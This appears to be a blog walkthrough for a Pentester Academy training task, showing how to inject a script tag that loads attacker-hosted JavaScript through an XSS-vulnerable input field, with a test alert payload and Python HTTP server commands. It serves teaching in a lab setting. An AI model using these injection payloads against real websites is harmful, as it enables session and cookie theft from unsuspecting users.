Javascript for Pentester Task 9

Hello Pentesters, today I am going to post another solution to the task provided at Javascript for Pentester at Pentester Academy. In this task, we will learn how to use external javascript with unlimited space to code. You can view solutions to the other tasks here.

Task 9: Include External JS  | Task Link

This task is very easy we have to put an alert box with the cookie inside it through an external javascriptcode. This comes in handy when we don’t have much space for our script to execute due to limitations applied on the server side of the page.


Find our injection point first, in this case, we found that input field is vulnerable to XSS. First, try some short injections like “<script>alert(0)</script>” and see the injection happens, which may lead to go ahead and insert our external javascript in the injection point. For this attack, you have to start your simple HTTP Server in python.

python -m http.server // for Python 3.X
python -m SimpleHTTPServer // for Python 2.X

After that write a javascript code and save it into the directory where your simple HTTP server is running. The code inside the javascript file does not need to be inside the <script> tags.


Our actual injection will look like this:

<script src='http://localhost:8000/j.js'></script>

Where j.js is our javascript file name. Now copy and paste the code above into the input field of the targeted page.

That’s all. Refer this post asa quick solution for the Javascript for Pentester tasks. For an in-depth videotutorial, please refer to the video solutions provided at Pentester Academy website.

Leave a Comment

Youremail address will not be published. Required fields are marked *

Send us Query
close slider